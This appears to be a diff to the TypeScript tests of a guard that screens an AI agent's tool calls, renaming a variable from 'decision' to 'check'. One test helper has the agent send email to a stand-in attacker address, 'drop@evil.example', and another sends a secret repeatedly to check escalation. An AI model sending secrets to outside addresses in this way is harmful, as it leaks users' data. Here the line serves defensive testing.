@@ -138,10 +138,10 @@ describe('guard and monitor agree on the same events', () => {
       guard.startTask({ id: task, ...(intent === undefined ? {} : { intent }) })
       for (let i = 0; i < 25; i++) {
         clock.now += Math.floor(random() * 20_000)
-        const decision = guard.before({ ...calls(random, i), task })
-        if (decision.command !== undefined) held.add(decision.command.id)
-        said.push(...decision.findings)
-        if (decision.outcome === 'allow') guard.after(decision, { text: pick(texts, random) })
+        const check = guard.before({ ...calls(random, i), task })
+        if (check.command !== undefined) held.add(check.command.id)
+        said.push(...check.findings)
+        if (check.outcome === 'allow') guard.after(check, { text: pick(texts, random) })
       }
       guard.endTask(task)
     }
@@ -174,9 +174,9 @@ describe('of several held acts alike a person lets go one at a time, by its own 
     const tell = () => driven.events(...events.splice(0))
     const act = (tool: string, args: unknown) => {
       clock.now += 1000
-      const decision = guard.before({ tool, server: 'mail', args, task: 't' })
+      const check = guard.before({ tool, server: 'mail', args, task: 't' })
       expect(core.peek('a1')).toEqual(tell().agent('a1'))
-      return decision
+      return check
     }
     const mail = (body: string) => act('send_email', { to: 'drop@evil.example', body })
     const say = (id: string, verb: 'approve' | 'release') => {
@@ -288,7 +288,7 @@ test('a widened approval: what goes by it, what does not, and what is left when 
     // A secret each time, and again.
     mail('five', undefined, secret),
     mail('five', undefined, secret),
-  ].map((decision) => decision.outcome)
+  ].map((check) => check.outcome)
   expect(outcomes).toEqual(['allow', 'allow', 'step-up', 'step-up', 'step-up'])
   expect(events.filter((e) => e.kind === 'attempt' && e.decision === widened)).toHaveLength(2)
   agree()
